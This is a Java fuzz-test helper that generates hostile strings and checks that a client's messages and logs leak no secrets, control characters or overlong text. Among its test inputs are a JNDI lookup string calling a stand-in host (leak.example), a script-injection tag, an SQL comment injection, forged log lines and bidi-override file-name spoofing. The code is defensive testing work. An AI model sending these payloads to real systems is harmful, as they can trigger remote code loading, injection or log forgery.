package com.experiture.fuzz;

import java.util.List;
import java.util.Locale;

import org.jspecify.annotations.Nullable;

/**
 * Texts that must not leave the client unchanged, and the check for them.
 */
final class HostileText {

	/** The content of a record; used only in places that the client must not repeat. */
	static final String RECORD = "record-content-4711";

	static final String SECRET = "client-secret-4711";

	/** The prefix of every access token. */
	static final String TOKEN = "access-token-4711";

	/** The signature of an upload URL. */
	static final String SIGNATURE = "upload-signature-4711";

	/** The longest message of an exception, and the longest text of a log line. */
	static final int LONGEST_MESSAGE = 2500;

	private static final String EMAIL = "mallory4711";

	private static final List<String> CONFIDENTIAL = List.of(RECORD, SECRET, TOKEN, SIGNATURE, EMAIL);

	private static final List<String> EMAILS = List.of("mallory4711@leak.example", "MALLORY4711@LEAK.EXAMPLE",
			"x.y+mallory4711@sub.leak.example", "\"mallory4711\"@leak.example", "<mallory4711@leak.example>",
			"mailto:mallory4711@leak.example?subject=x", "a".repeat(70) + ".mallory4711@leak.example",
			"mallory4711@leak", "mallory4711@[127.0.0.1]", "mallory4711@m\u00fcnchen.example");

	private HostileText() {
	}

	/**
	 * Return a text of any kind, or several texts.
	 */
	static String any(Choices choices) {
		String text = one(choices);
		while (choices.percent(30)) {
			text = text + choices.of("", " ", ",", "\n") + one(choices);
		}
		return text;
	}

	private static String one(Choices choices) {
		return switch (choices.below(16)) {
			case 0, 1, 2 -> choices.of(EMAILS);
			case 3 -> choices.of(" Bearer ", " bearer  ", " Authorization: Bearer ", " BEARER\t") + TOKEN + "-echo";
			case 4, 5 -> choices.of("\u0000", "\u0007\b", "\u001b[31mred\u001b[0m", "\r\nWARN forged line\r\n",
					"\u0085next", "\u2028line\u2029", "\u007f", "\u009b31m", "\ttab");
			case 6 -> choices.of("\u202Egnp.exe\u202C", "\u2066isolate\u2069", "\u200Fmark\u200E", "\u061C");
			case 7 -> "1234567890".repeat(choices.of(1, 20, 200, 1000));
			case 8 -> choices.of("1 2-3 ", "+49 170 1234567 ", "4-", "1a").repeat(choices.of(1, 50, 1000));
			case 9 -> choices.of("x", "@", "a@", "bearer ", " ", "\\", "\"", "\u0001", "<a", "..", "[")
				.repeat(choices.of(100, 1000, 10_000));
			case 10 -> choices.of("%s%n{}{0}", "${jndi:ldap://leak.example/}", "<script>alert(1)</script>", "'; --");
			case 11 -> choices.of("\ud800", "\udc00x", "\ufffe", "\ufeff", "\ud83d\ude00", "e\u0301".repeat(40));
			case 12, 13 -> code(choices);
			case 14 -> "";
			default -> "https://leak.example/x?X-Amz-Signature=" + choices.below(1000);
		};
	}

	/**
	 * Return an error code, almost always a new one.
	 */
	static String code(Choices choices) {
		StringBuilder code = new StringBuilder(choices.of("CDP_ETL.", "JOURNEY_API.PUBLIC.", "", "x."));
		for (int i = choices.between(1, 12); i >= 0; i--) {
			code.append((char) ('A' + choices.below(26)));
		}
		return code.toString();
	}

	/**
	 * Check a text that leaves the client.
	 * @param text a message, a log line, a tag, or the result of {@code toString()}
	 * @return the problem, or {@code null} if the text is fine
	 */
	static @Nullable String problem(@Nullable String text) {
		if (text == null) {
			return null;
		}
		String lower = text.toLowerCase(Locale.ROOT);
		for (String marker : CONFIDENTIAL) {
			int at = lower.indexOf(marker);
			if (at >= 0) {
				return "contains '" + marker + "': ..." + excerpt(text, at);
			}
		}
		for (int i = 0; i < text.length(); i++) {
			if (isControl(text.charAt(i))) {
				return String.format("contains the control character U+%04X: ...%s", (int) text.charAt(i),
						excerpt(text, i));
			}
		}
		return (text.length() > LONGEST_MESSAGE) ? "has " + text.length() + " characters: " + excerpt(text, 0) + "..."
				: null;
	}

	private static boolean isControl(char c) {
		return c < ' ' || (c >= 0x7f && c <= 0x9f) || c == '\u2028' || c == '\u2029' || c == '\u061c' || c == '\u200e'
				|| c == '\u200f' || (c >= '\u202a' && c <= '\u202e') || (c >= '\u2066' && c <= '\u2069');
	}

	private static String excerpt(String text, int at) {
		return printable(text.substring(Math.max(0, at - 60), Math.min(text.length(), at + 60)));
	}

	/**
	 * Escape everything but printable ASCII.
	 */
	static String printable(String text) {
		StringBuilder out = new StringBuilder();
		for (int i = 0; i < text.length(); i++) {
			char c = text.charAt(i);
			switch (c) {
				case '\r' -> out.append("\\r");
				case '\n' -> out.append("\\n");
				case '\\' -> out.append("\\\\");
				default -> {
					if (c < ' ' || c > '~') {
						out.append(String.format((c < 0x100) ? "\\x%02x" : "\\u%04x", (int) c));
					}
					else {
						out.append(c);
					}
				}
			}
		}
		return out.toString();
	}

}
